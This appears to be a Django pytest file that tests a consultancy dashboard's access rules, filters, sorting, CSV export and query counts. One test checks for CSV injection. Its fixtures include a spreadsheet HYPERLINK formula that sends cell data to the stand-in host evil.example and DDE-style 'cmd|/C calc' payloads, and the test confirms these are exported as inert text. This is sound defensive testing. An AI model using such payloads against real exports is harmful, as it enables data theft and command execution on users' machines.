"""The dashboard pages: managers only, filters, sorting, export, and query counts that do not grow."""

import csv
import io
import json
import re

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from health.models import Flag, HealthSnapshot
from health.services import engagement_health_refresh, flag_dismiss, flag_resolve
from tests import factories
from tests.dashboard.conftest import TODAY, ago, build_portfolio

pytestmark = pytest.mark.django_db

URLS = ["dashboard:home", "dashboard:trends", "dashboard:export", "dashboard:flags"]


@pytest.mark.parametrize("name", URLS)
def test_consultants_and_clients_get_404(client, consultant, client_user, name):
    for user in (consultant, client_user):
        client.force_login(user)
        assert client.get(reverse(name)).status_code == 404


@pytest.mark.parametrize("name", URLS)
def test_anonymous_users_are_sent_to_sign_in(client, name):
    response = client.get(reverse(name))
    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]


def test_the_manager_sees_the_portfolio_with_latest_scores_and_changes(client, manager, engagement):
    factories.HealthSnapshotFactory(engagement=engagement, date=TODAY, score=55, depth=0.3, balance=0.5,
                                    state="transactional", days_since_last_session=12)
    factories.HealthSnapshotFactory(engagement=engagement, date=ago(30), score=70)
    factories.HealthSnapshotFactory(engagement=engagement, date=ago(90), score=50)
    client.force_login(manager)
    response = client.get(reverse("dashboard:home"))
    assert response.status_code == 200
    row = response.context["page"].object_list[0]
    assert (row.score, row.change_30, row.change_90, row.days_since_session) == (55, -15, 5, 12)
    assert row.state == "transactional"
    data = json.loads(json.dumps(response.context["map_data"]))
    assert [p["id"] for p in data["points"]] == [engagement.pk]
    assert data["zone"] == {"low": 0.25, "high": 0.75, "consultative": 0.5}
    assert b'id="map-data"' in response.content


def test_an_older_latest_snapshot_still_counts_and_days_are_brought_to_today(client, manager, engagement):
    factories.HealthSnapshotFactory(engagement=engagement, date=ago(3), score=61, days_since_last_session=5)
    client.force_login(manager)
    row = client.get(reverse("dashboard:home")).context["page"].object_list[0]
    assert (row.score, row.latest_on, row.days_since_session) == (61, ago(3), 8)


def test_filters_narrow_the_portfolio(client, manager):
    lead = factories.ConsultantFactory(full_name="Lea Lead")
    drifted = factories.EngagementFactory(title="Drifted", lead=lead)
    healthy = factories.EngagementFactory(title="Healthy")
    closed = factories.EngagementFactory(title="Closed", status="closed", closure_reason="completed")
    factories.HealthSnapshotFactory(engagement=drifted, date=TODAY, score=45, state="transactional", depth=0.2)
    factories.HealthSnapshotFactory(engagement=healthy, date=TODAY, score=85, state="consultative")
    factories.HealthSnapshotFactory(engagement=closed, date=TODAY, score=20, state="transactional")
    factories.FlagFactory(engagement=drifted, kind="drift_to_transactional", severity="high")
    client.force_login(manager)

    def titles(query):
        response = client.get(reverse("dashboard:home") + query)
        assert response.status_code == 200
        return [row.title for row in response.context["page"].object_list]

    assert titles("") == ["Drifted", "Healthy"]
    assert titles("?state=transactional") == ["Drifted"]
    assert titles("?flag_kind=drift_to_transactional") == ["Drifted"]
    assert titles(f"?lead={lead.pk}") == ["Drifted"]
    assert titles(f"?client={healthy.client.name[2:].upper()}") == ["Healthy"]
    assert titles("?score_min=50&score_max=90") == ["Healthy"]
    assert titles("?mode=co_production&sort=-score") == ["Healthy", "Drifted"]


def test_an_inverted_score_range_is_an_error_on_the_field_and_keeps_what_was_typed(client, manager, engagement):
    client.force_login(manager)
    response = client.get(reverse("dashboard:home") + "?score_min=80&score_max=20")
    assert response.status_code == 200
    assert "score_max" in response.context["form"].errors
    assert b'value="80"' in response.content


def test_sorting_by_each_column_works_and_unknown_sorts_fall_back(client, manager, portfolio_of):
    portfolio_of(5)
    client.force_login(manager)
    for key in ["client", "engagement", "lead", "score", "change_30", "change_90", "mode", "state", "status",
                "days", "flags", "nonsense"]:
        assert client.get(reverse("dashboard:export"), {"sort": f"-{key}"}).status_code == 200
        assert client.get(reverse("dashboard:home"), {"sort": key}).status_code == 200
    scores = [r.score for r in client.get(reverse("dashboard:home"), {"sort": "-score"}).context["page"].object_list]
    assert scores == sorted(scores, reverse=True)


def test_export_is_the_filtered_portfolio_across_pages(client, manager, portfolio_of):
    portfolio_of(60)
    client.force_login(manager)
    response = client.get(reverse("dashboard:export"), {"state": "transactional", "sort": "client"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    expected = HealthSnapshot.objects.filter(date=TODAY, state="transactional").count()
    assert len(rows) - 1 == expected > 0
    assert rows[0][0] == "\ufeffClient"  # the byte order mark: Excel then reads the file as UTF-8
    assert [r[0] for r in rows[1:]] == sorted(r[0] for r in rows[1:])
    assert {r[8] for r in rows[1:]} == {"Transactional"}


def test_the_french_export_uses_semicolons_decimal_commas_and_french_labels(client, manager, engagement):
    factories.HealthSnapshotFactory(engagement=engagement, date=TODAY, score=72.5, state="transactional",
                                    mode="expert_led", depth=0.25)
    engagement_health_refresh()
    client.force_login(manager)
    response = client.get(reverse("dashboard:export"), HTTP_ACCEPT_LANGUAGE="fr")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][0] == "Client" and len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Score"] == "72,5"
    assert (row["Mode"], row["État"]) == ("Menée par l'expert", "Transactionnelle")


def test_the_score_range_counts_scores_as_the_table_shows_them(client, manager):
    for title, score in (("Just under", 78.4), ("Shown 79, low", 78.7), ("Shown 79, high", 79.2), ("Shown 80", 79.6)):
        factories.HealthSnapshotFactory(engagement=factories.EngagementFactory(title=title), date=TODAY, score=score)
    engagement_health_refresh()
    client.force_login(manager)
    response = client.get(reverse("dashboard:home"), {"score_min": 79, "score_max": 79})
    rows = response.context["page"].object_list
    assert sorted(row.title for row in rows) == ["Shown 79, high", "Shown 79, low"]
    assert {row.score_shown for row in rows} == {79}


def test_an_inverted_score_range_applies_neither_bound(client, manager):
    for score in (30, 60, 90):
        factories.HealthSnapshotFactory(engagement=factories.EngagementFactory(), date=TODAY, score=score)
    engagement_health_refresh()
    client.force_login(manager)
    response = client.get(reverse("dashboard:home"), {"score_min": 80, "score_max": 20})
    assert "score_max" in response.context["form"].errors
    assert len(response.context["page"].object_list) == 3


def test_a_descending_default_sort_links_back_to_ascending(client, manager, engagement):
    client.force_login(manager)
    content = client.get(reverse("dashboard:home"), {"sort": "-score"}).content.decode()
    heading = re.search(r'<a href="([^"]*)#portfolio">Score', content)
    assert heading.group(1) == "?"  # the default order, not an anchor on the same sorted page


def test_the_map_says_when_the_filters_leave_nothing(client, manager, engagement):
    client.force_login(manager)
    content = client.get(reverse("dashboard:home"), {"client": "no such client"}).content.decode()
    map_part = content[content.index('id="map"'):content.index('id="portfolio"')]
    assert "No engagement matches these filters." in map_part
    assert "fills in once sessions are logged" not in map_part


@pytest.mark.parametrize(("name", "expected"), [("dashboard:home", 8), ("dashboard:flags", 8),
                                                ("dashboard:trends", 5)])
def test_query_count_does_not_grow_with_the_portfolio(client, manager, name, expected):
    client.force_login(manager)
    headers = {"HX-Request": "true"} if name == "dashboard:trends" else {}
    counts = []
    for size, prefix in ((10, "A"), (490, "B")):  # 10 engagements, then 500
        build_portfolio(size, prefix=prefix)
        cache.clear()
        with CaptureQueriesContext(connection) as queries:
            response = client.get(reverse(name), headers=headers)
        assert response.status_code == 200
        counts.append(len(queries))
    # Session and user, then the page's own reads (docs/dashboard.md; one more there, where the
    # two-factor check runs). The home page's include reading the portfolio version (page cache); the
    # flag queue's, the short list of engagements on watch.
    assert counts == [expected, expected]


@pytest.mark.parametrize("query", ["?sort=-change_90&page=3", "?sort=flags", "?page=5",
                                   "?sort=client&state=transactional"])
def test_other_sorts_and_later_pages_cost_one_query_more(client, manager, query):
    build_portfolio(260)
    client.force_login(manager)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse("dashboard:home") + query)
    assert response.status_code == 200 and response.context["page"].object_list
    assert len(queries) == 9  # the home page's 8, and the page's 50 rows


def test_the_table_sorts_by_score_changes_and_live_flags_from_the_latest_figures(client, manager, engagement,
                                                                                django_capture_on_commit_callbacks):
    other = factories.EngagementFactory(title="Other")
    factories.HealthSnapshotFactory(engagement=engagement, date=ago(90), score=80)
    factories.HealthSnapshotFactory(engagement=engagement, date=TODAY, score=50)
    factories.HealthSnapshotFactory(engagement=other, date=ago(90), score=40)
    factories.HealthSnapshotFactory(engagement=other, date=TODAY, score=60)
    factories.FlagFactory(engagement=engagement, kind="cadence_drop")
    factories.FlagFactory(engagement=engagement, kind="one_sided")
    client.force_login(manager)

    def rows(sort):
        page = client.get(reverse("dashboard:home"), {"sort": sort}).context["page"]
        return [(r.pk, r.change_90, r.live_flags) for r in page.object_list]

    assert rows("change_90") == [(engagement.pk, -30, 2), (other.pk, 20, 0)]
    assert rows("-change_90") == [(other.pk, 20, 0), (engagement.pk, -30, 2)]
    assert [pk for pk, *_ in rows("-flags")] == [engagement.pk, other.pk]
    with django_capture_on_commit_callbacks(execute=True):  # the page cache moves on once it commits
        flag_dismiss(flag=Flag.objects.filter(engagement=engagement).first(), user=manager)
    assert rows("-flags")[0] == (engagement.pk, -30, 1)


def test_the_home_page_reads_stored_snapshots_and_never_scores(client, manager, portfolio_of, monkeypatch):
    portfolio_of(3)
    from health import scoring

    def refuse(*args, **kwargs):
        raise AssertionError("the dashboard must not compute scores")

    monkeypatch.setattr(scoring, "assess", refuse)
    client.force_login(manager)
    assert client.get(reverse("dashboard:home")).status_code == 200


def test_the_map_is_capped_and_says_how_many_it_shows(client, manager, portfolio_of, monkeypatch):
    from dashboard import selectors

    monkeypatch.setattr(selectors.relationship_map, "__kwdefaults__", {"today": None, "limit": 4})
    portfolio_of(9)
    client.force_login(manager)
    response = client.get(reverse("dashboard:home"))
    points = response.context["map_data"]["points"]
    assert len(points) == 4
    assert [p["score"] for p in points] == sorted(p["score"] for p in points)
    assert all(len(p["trail"]) == 4 for p in points)
    assert b"Showing 4 engagements of 9" in response.content


def test_trends_show_twelve_months_of_bands_and_consultative_share(client, manager, portfolio_of):
    portfolio_of(6)
    client.force_login(manager)
    response = client.get(reverse("dashboard:trends"), HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    distribution = response.context["distribution"]
    assert len(distribution) == 12 and distribution[-1].date == TODAY
    assert all(sum(m.bins) == m.engagements == 6 for m in distribution)
    share = response.context["share"]
    assert len(share.months) == 12 and len(share.members) == 1
    assert share.overall.shares[-1] is None or 0 <= share.overall.shares[-1] <= 1
    assert b"<html" not in response.content  # the HTMX partial, not a page


def test_the_flag_queue_lists_live_flags_most_severe_then_newest(client, manager, engagement):
    other = factories.EngagementFactory()
    low = factories.FlagFactory(engagement=engagement, kind="perception_gap", severity="low", raised_on=TODAY)
    old_high = factories.FlagFactory(engagement=other, kind="sponsor_change", severity="high", raised_on=ago(5))
    new_high = factories.FlagFactory(engagement=engagement, kind="drift_to_transactional", severity="high")
    factories.FlagFactory(engagement=other, kind="one_sided", status="resolved", resolved_at="2026-01-01T00:00Z")
    client.force_login(manager)
    response = client.get(reverse("dashboard:flags"))
    assert [f.pk for f in response.context["page"].object_list] == [new_high.pk, old_high.pk, low.pk]
    only_high = client.get(reverse("dashboard:flags"), {"severity": "high", "owner": "none"})
    assert [f.pk for f in only_high.context["page"].object_list] == [new_high.pk, old_high.pk]
    Flag.objects.filter(pk=low.pk).update(owner=manager)
    mine = client.get(reverse("dashboard:flags"), {"owner": str(manager.pk)})
    assert [f.pk for f in mine.context["page"].object_list] == [low.pk]


def test_every_sort_and_page_matches_one_sort_of_the_whole_portfolio_with_empty_values_last(
        client, manager, monkeypatch):
    from dashboard import selectors

    monkeypatch.setattr(selectors, "PORTFOLIO_PAGE_SIZE", 2)
    monkeypatch.setattr(selectors.relationship_map, "__kwdefaults__", {"sort": "score", "today": None, "limit": 3})
    for n, (score, past, mode) in enumerate([(50, 40, "expert_led"), (50, None, ""), (70, 80, "client_led"),
                                            (30, None, "co_production")]):
        engagement = factories.EngagementFactory(title=f"Scored {n}")
        factories.HealthSnapshotFactory(engagement=engagement, date=ago(30), score=past or 1)
        if past is None:
            HealthSnapshot.objects.filter(engagement=engagement).delete()
        factories.HealthSnapshotFactory(engagement=engagement, date=TODAY, score=score, mode=mode)
    for n in range(3):
        factories.EngagementFactory(title=f"Never scored {n}")  # no figures at all
    client.force_login(manager)
    for key in ["score", "change_30", "change_90", "mode", "state", "days", "flags", "client"]:
        for sort in (key, f"-{key}"):
            expected = [e.pk for e in selectors.portfolio(user=manager, sort=sort)]
            seen = []
            for number in range(1, 5):
                page = client.get(reverse("dashboard:home"), {"sort": sort, "page": number}).context["page"]
                seen += [row.pk for row in page.object_list]
            assert seen == expected, sort


def test_the_consultative_share_counts_each_attending_consultant_once_and_unattended_sessions_overall(manager):
    from django.utils import timezone

    from dashboard import selectors
    from engagements.models import Session

    engagement = factories.EngagementFactory()
    ana, ben = factories.ConsultantFactory(full_name="Ana"), factories.ConsultantFactory(full_name="Ben")
    now = timezone.now()
    both = Session.objects.create(engagement=engagement, start=now, duration_minutes=60, focus="strategy")
    both.consultants.set([ana, ben])
    alone = Session.objects.create(engagement=engagement, start=now, duration_minutes=30, focus="reporting")
    alone.consultants.set([ana])
    Session.objects.create(engagement=engagement, start=now, duration_minutes=90, focus="strategy")  # nobody
    share = selectors.consultative_share(user=manager, today=TODAY)
    assert share.overall.minutes[-1] == 180 and share.overall.shares[-1] == pytest.approx(150 / 180)
    assert [(m.label, m.minutes[-1], m.shares[-1]) for m in share.members] == [("Ana", 90, pytest.approx(60 / 90)),
                                                                              ("Ben", 60, 1.0)]


def test_resolved_and_dismissed_flags_keep_their_plan_in_the_queue(client, manager, engagement):
    resolved = factories.FlagFactory(engagement=engagement, kind="drift_to_transactional", severity="high")
    dismissed = factories.FlagFactory(engagement=engagement, kind="one_sided")
    live = factories.FlagFactory(engagement=engagement, kind="cadence_drop")
    flag_resolve(flag=resolved, user=manager, action_plan="repair",
                 note="Strategy workshop with the new CMO by 15 Dec.")
    flag_dismiss(flag=dismissed, user=manager, note="Seasonal: the client is in its year-end freeze.")
    client.force_login(manager)

    response = client.get(reverse("dashboard:flags"), {"status": "closed"})
    assert [flag.pk for flag in response.context["page"].object_list] == [dismissed.pk, resolved.pk]
    content = response.content.decode()
    assert "Strategy workshop with the new CMO by 15 Dec." in content and "Repair the relationship" in content
    assert 'data-flag-queue="closed"' in content
    assert [flag.pk for flag in client.get(reverse("dashboard:flags")).context["page"].object_list] == [live.pk]


def test_the_table_links_each_flag_count_to_that_engagements_flags(client, manager, engagement):
    other = factories.EngagementFactory(title="Other")
    mine = factories.FlagFactory(engagement=engagement, kind="cadence_drop")
    factories.FlagFactory(engagement=other, kind="cadence_drop")
    factories.HealthSnapshotFactory(engagement=engagement, date=TODAY, score=60)
    engagement_health_refresh()
    client.force_login(manager)
    content = client.get(reverse("dashboard:home")).content.decode()
    link = f"{reverse('dashboard:flags')}?status=live&amp;engagement={engagement.pk}"
    assert link in content and f"1 live flag on {engagement.title}" in content

    response = client.get(reverse("dashboard:flags"), {"status": "live", "engagement": engagement.pk})
    assert [flag.pk for flag in response.context["page"].object_list] == [mine.pk]
    assert f"Only the flags of {engagement.client.name} — {engagement.title}." in response.content.decode()


def test_flags_of_a_closed_engagement_leave_the_live_queue(client, manager, engagement):
    closed = factories.EngagementFactory(status="closed", closure_reason="completed")
    factories.FlagFactory(engagement=closed, kind="cadence_drop", severity="high")
    kept = factories.FlagFactory(engagement=engagement, kind="cadence_drop", severity="high")
    client.force_login(manager)
    response = client.get(reverse("dashboard:flags"), {"status": "live"})
    assert [flag.pk for flag in response.context["page"].object_list] == [kept.pk]
    assert {value: count for value, _label, count in response.context["severity_counts"]}["high"] == 1


def test_flags_needing_attention_follow_the_portfolio_filters(client, manager, engagement):
    other = factories.EngagementFactory(client__name="Zeta Corp")
    factories.FlagFactory(engagement=engagement, kind="cadence_drop")
    factories.FlagFactory(engagement=other, kind="cadence_drop")
    factories.FlagFactory(engagement=other, kind="one_sided")
    client.force_login(manager)
    assert client.get(reverse("dashboard:home")).context["live_flags"] == 3
    assert client.get(reverse("dashboard:home"), {"client": "zeta"}).context["live_flags"] == 2


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'


def test_the_export_writes_user_typed_formulas_as_text(client, manager, consultant):
    """CSV injection: names and titles starting with = + - @ tab or CR arrive quoted, as text."""
    lead = factories.ConsultantFactory(full_name="@SUM(1+1)*cmd|' /C calc'!A0")
    evil_client = factories.ClientFactory(name="=1+1")
    titles = [HYPERLINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "A plain title"]
    for title in titles:
        engagement = factories.EngagementFactory(title=title, lead=lead, client=evil_client)
        factories.HealthSnapshotFactory(engagement=engagement, date=TODAY, score=50)
        factories.HealthSnapshotFactory(engagement=engagement, date=ago(30), score=65.5)
    engagement_health_refresh()
    client.force_login(manager)
    response = client.get(reverse("dashboard:export"))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert sorted(row["Engagement"] for row in rows) == sorted(
        "'" + title if title != "A plain title" else title for title in titles)
    assert f"'{HYPERLINK}" in {row["Engagement"] for row in rows}
    assert {row["Client"] for row in rows} == {"'=1+1"}
    assert {row["Lead"] for row in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    # A genuine negative number stays a number the spreadsheet can sum: not quoted.
    assert {row["Change over 30 days"] for row in rows} == {"-15.5"}
    assert {row["Score"] for row in rows} == {"50.0"}


def test_each_summary_tile_opens_the_portfolio_narrowed_to_what_it_counts(client, manager):
    drifted = factories.EngagementFactory(title="Drifted")
    one_sided = factories.EngagementFactory(title="Lecture")
    healthy = factories.EngagementFactory(title="Healthy")
    factories.HealthSnapshotFactory(engagement=drifted, date=TODAY, score=45, state="transactional")
    factories.HealthSnapshotFactory(engagement=one_sided, date=TODAY, score=60, mode="expert_led")
    factories.HealthSnapshotFactory(engagement=healthy, date=TODAY, score=85)
    client.force_login(manager)
    content = client.get(reverse("dashboard:home")).content.decode()
    tiles = content.split('class="dash-summary"')[1].split("</section>")[0]
    links = re.findall(r'href="([^"]+)"', tiles)
    assert "/dashboard/?state=transactional#portfolio" in links
    assert "/dashboard/?mode=one_sided#portfolio" in links
    assert "/dashboard/?watch=1#portfolio" in links
    assert "/dashboard/flags/" in links and len(links) == 6

    def titles(query):
        return [row.title for row in client.get(reverse("dashboard:home") + query).context["page"].object_list]

    assert titles("?state=transactional") == ["Drifted"]
    assert titles("?mode=one_sided") == ["Lecture"]
    # A tile keeps the filters in use: the lead's transactional engagements, not the firm's.
    narrowed = client.get(reverse("dashboard:home") + f"?lead={healthy.lead.pk}").content.decode()
    assert f"?lead={healthy.lead.pk}&amp;state=transactional#portfolio" in narrowed


def test_sorting_by_state_puts_transactional_first(client, manager):
    for title, state in (("Deep", "consultative"), ("Vendor", "transactional")):
        factories.HealthSnapshotFactory(engagement=factories.EngagementFactory(title=title), date=TODAY, state=state)
    client.force_login(manager)
    response = client.get(reverse("dashboard:home"))
    header = next(h for h in response.context["headers"] if h["key"] == "state")
    assert header["url"] == "?sort=-state"
    rows = client.get(reverse("dashboard:home") + header["url"]).context["page"].object_list
    assert [row.title for row in rows] == ["Vendor", "Deep"]


def test_french_filters_agree_any_with_each_label(client, manager):
    client.force_login(manager)
    client.cookies["django_language"] = "fr"
    page = client.get(reverse("dashboard:flags"), HTTP_ACCEPT_LANGUAGE="fr").content.decode()

    def first_option(name):
        select = re.search(rf'<select name="{name}"[^>]*>(.*?)</select>', page, re.S).group(1)
        return re.search(r"<option[^>]*>([^<]*)</option>", select).group(1)

    # « Gravité : Toutes », « Type : Tous », « Responsable : Tous ».
    assert (first_option("severity"), first_option("kind"), first_option("owner")) == ("Toutes", "Tous", "Tous")
    portfolio = client.get(reverse("dashboard:home"), HTTP_ACCEPT_LANGUAGE="fr").content.decode()
    flag_select = re.search(r'<select name="flag_kind"[^>]*>(.*?)</select>', portfolio, re.S).group(1)
    assert re.search(r"<option[^>]*>([^<]*)</option>", flag_select).group(1) == "Toutes"  # « Alerte active »


def test_a_lead_without_a_name_is_shown_by_email_in_the_table_and_the_export(client, manager):
    """The rows name their lead from the database (no user loaded per row): as pages name a person,
    their full name, else their e-mail address."""
    nameless = factories.ConsultantFactory(full_name="", email="nameless@rapport.test")
    named = factories.ConsultantFactory(full_name="Zoé Named")
    for lead, title in ((nameless, "Nameless's"), (named, "Named's")):
        factories.HealthSnapshotFactory(engagement=factories.EngagementFactory(title=title, lead=lead), date=TODAY)
    engagement_health_refresh()
    client.force_login(manager)
    response = client.get(reverse("dashboard:home"), {"sort": "engagement"})
    assert [(row.title, row.lead_name) for row in response.context["page"].object_list] == [
        ("Named's", "Zoé Named"), ("Nameless's", "nameless@rapport.test")]
    assert '<td class="col-lead">nameless@rapport.test</td>' in response.content.decode()
    export = client.get(reverse("dashboard:export"), {"sort": "engagement"})
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    assert [(row["Engagement"], row["Lead"]) for row in rows] == [
        ("Named's", "Zoé Named"), ("Nameless's", "nameless@rapport.test")]
